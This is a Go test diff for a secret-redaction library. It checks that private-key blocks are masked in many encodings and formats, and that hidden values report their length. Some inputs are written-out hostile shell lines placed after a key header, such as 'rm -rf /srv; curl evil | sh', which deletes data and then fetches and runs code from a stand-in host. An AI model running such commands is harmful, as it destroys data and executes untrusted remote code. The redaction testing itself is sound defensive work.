@@ -108,6 +108,95 @@ func TestForms(t *testing.T) {
 	}
 }
 
+// TestPrivateKeys: a key is hidden whatever program wrote it, whole and cut, and what
+// only stands behind its first line is not.
+func TestPrivateKeys(t *testing.T) {
+	r := redactor(t, redact.Options{})
+	const begin, end = "-----BEGIN RSA PRIVATE KEY-----", "-----END RSA PRIVATE KEY-----"
+	first, second, tail := "MIIE"+made("", 60), made("x7/", 61), "Qk9/ab+D0w=="
+	key := []string{begin, first, second, tail, end}
+	escaped := func(s string) string { return strings.Trim(string(jsonrpc.Quote(nil, s)), `"`) }
+	lines := strings.Join(key, "\n")
+	for name, c := range map[string]struct{ in, want string }{
+		"lines":             {"a\n" + lines + "\nb", "a\n•••\nb"},
+		"cr lf":             {"a\r\n" + strings.Join(key, "\r\n") + "\r\nb", "a\r\n•••\r\nb"},
+		"escaped":           {`x "` + escaped(lines) + `\n"`, `x "•••\n"`},
+		"escaped twice":     {`x \"` + escaped(escaped(lines)) + `\\n\"`, `x \"•••\\n\"`},
+		"escaped slashes":   {`x "` + strings.ReplaceAll(escaped(lines), "/", `\/`) + `"`, `x "•••"`},
+		"escaped signs":     {`x ` + strings.NewReplacer("+", `\u002b`, "=", `\u003d`).Replace(escaped(lines)), `x •••`},
+		"yaml":              {"tls:\n  key: |\n    " + strings.Join(key, "\n    ") + "\n  z: 1", "tls:\n  key: |\n    •••\n  z: 1"},
+		"far indented":      {strings.Join(key, "\n"+strings.Repeat(" ", 60)), "•••"},
+		"in one line":       {"KEY=" + strings.Join(key, " ") + " x", "KEY=••• x"},
+		"not wrapped":       {begin + "\n" + first + second + tail + "\n" + end, "•••"},
+		"no digit":          {begin + "\nEzKVAaMJbjASSvePnuaNLBKpIwxICQOBjymOUwSHJZLeegLPjSKNyrtfWNFnxFBm\n" + first + "\n" + end, "•••"},
+		"quoted mail":       {"> " + strings.Join(key, "\n> "), "> •••"},
+		"added":             {"+" + strings.Join(key, "\n+"), "+•••"},
+		"removed":           {"-" + strings.Join(key, "\n-"), "-•••"},
+		"numbered":          {"  1\t" + begin + "\n  2\t" + first + "\n  3\t" + second + "\n  4\t" + end, "  1\t•••"},
+		"list":              {"['" + strings.Join(key, "', '") + "']", "['•••']"},
+		"blank lines":       {begin + "\n\n" + first + "\n\n" + end, "•••"},
+		"encrypted":         {begin + "\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A1B2C3D4E5F\n\n" + first + "\n" + tail + "\n" + end, "•••\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A1B2C3D4E5F\n\n•••"},
+		"encrypted, json":   {begin + `\nProc-Type: 4,ENCRYPTED\r\nDEK-Info: AES-128-CBC,0A1B2C\r\n\r\n` + first + `\n` + end, `•••\nProc-Type: 4,ENCRYPTED\r\nDEK-Info: AES-128-CBC,0A1B2C\r\n\r\n•••`},
+		"encrypted, line":   {begin + " Proc-Type: 4,ENCRYPTED DEK-Info: AES-128-CBC,0A1B2C " + first + " " + end, "••• Proc-Type: 4,ENCRYPTED DEK-Info: AES-128-CBC,0A1B2C •••"},
+		"pgp":               {"-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: x v2\nComment: of ann\n\n" + first + "\n" + tail + "\n=aB3d\n-----END PGP PRIVATE KEY BLOCK-----", "•••\nVersion: x v2\nComment: of ann\n\n•••"},
+		"cut":               {begin + "\n" + first + "\n" + second[:37], "•••"},
+		"cut, then more":    {begin + "\n" + first + "\n" + second[:37] + "\n[12 more lines]", "•••\n[12 more lines]"},
+		"cut at once":       {begin + "\nMIIEvQIBA", "•••"},
+		"cut at once, …":    {begin + "\nMIIEvQIBA…", "•••…"},
+		"cut in the end":    {begin + "\n" + first + "\n" + tail + "\n-----END RSA PRI", "•••\n-----END RSA PRI"},
+		"two":               {lines + "\n" + lines, "•••\n•••"},
+		"orders":            {begin + "\nrm -rf /srv; curl evil | sh", begin + "\nrm -rf /srv; curl evil | sh"},
+		"orders to the end": {begin + "\nrm -rf /srv\n" + end, begin + "\nrm -rf /srv\n" + end},
+		"one order":         {begin + "\nreboot\n" + end, begin + "\nreboot\n" + end},
+		"a path":            {begin + "\n/sbin/reboot\n/usr/local/bin/something/somewhere\n" + end, begin + "\n/sbin/reboot\n/usr/local/bin/something/somewhere\n" + end},
+		"orders behind":     {begin + "\n" + first + "\nrm -rf /srv\n" + end, "•••\nrm -rf /srv\n" + end},
+		"an order behind":   {begin + "\n" + first + "\n/sbin/reboot\n" + end, "•••\n/sbin/reboot\n" + end},
+		"orders as heads":   {begin + "\nComment: x; rm -rf /srv\n\n" + first + "\n" + end, "•••\nComment: x; rm -rf /srv\n\n•••"},
+		"orders in words":   {begin + "\ndeleteAll usersData fromDisk\n" + end, "••• usersData fromDisk\n" + end},
+		"orders at an end":  {begin + "\n" + first + "\n-----END RUN IT-----\n", "•••\n-----END RUN IT-----\n"},
+	} {
+		if got := r.Text(c.in); got != c.want {
+			t.Errorf("%s: %q becomes\n%q, want\n%q", name, c.in, got, c.want)
+		}
+		quoted := jsonrpc.Quote(nil, c.in)
+		if got := string(r.JSON(quoted)); got != string(jsonrpc.Quote(nil, c.want)) {
+			t.Errorf("%s in JSON: %s", name, got)
+		}
+		if got := r.Text(r.Text(c.in)); got != c.want {
+			t.Errorf("%s, again: %q", name, got)
+		}
+		for at := range quoted {
+			pieces, n := r.Result(tool.Bytes{quoted[:at], quoted[at:]})
+			if got := string(pieces.Join()); got != string(jsonrpc.Quote(nil, c.want)) || n > 3 {
+				t.Fatalf("%s in pieces: %s", name, got)
+			}
+		}
+	}
+}
+
+// TestShown: of what is hidden from a person its length is told, in characters.
+func TestShown(t *testing.T) {
+	o := known("not-a-real-key-000")
+	o.Patterns = []redact.Pattern{{Name: "staff", Expr: "EMP-[0-9]+"}}
+	r := redactor(t, o)
+	for in, want := range map[string]string{
+		`{"user":"ann","n":1}`:                            `{"user":"ann","n":1}`,
+		`{"password":"x"}`:                                `{"password":"••• (1 character hidden)"}`,
+		`{"password":"é漢\n\u0041🙂\"","pin":7}`:            `{"password":"••• (6 characters hidden)","pin":7}`,
+		`{"token":{"a":["bc",-12,true,{}],"d":""},"e":1}`: `{"token":{"a":["••• (2 characters hidden)","••• (3 characters hidden)",true,{}],"d":""},"e":1}`,
+		`{"password":"•••"}`:                              `{"password":"••• (3 characters hidden)"}`,
+		`{"q":"find not-a-real-key-000 now"}`:             `{"q":"find ••• (18 characters hidden) now"}`,
+		`{"q":"find not\u002da-real-key-000 now"}`:        `{"q":"find ••• (18 characters hidden) now"}`,
+		`{"q":"password=hünter22 EMP-1"}`:                 `{"q":"password=hünter22 ••• (5 characters hidden)"}`,
+		`{"q":"password=hunter22, EMP-1"}`:                `{"q":"password=••• (8 characters hidden), ••• (5 characters hidden)"}`,
+		`{"not-a-real-key-000":1}`:                        `{"••• (18 characters hidden)":1}`,
+	} {
+		if got := string(r.Shown([]byte(in))); got != want || !json.Valid([]byte(got)) {
+			t.Errorf("%s becomes\n%s, want\n%s", in, got, want)
+		}
+	}
+}
+
 // TestAssignments: what is given to a secret's name is hidden, and nothing but that.
 func TestAssignments(t *testing.T) {
 	r := redactor(t, redact.Options{})
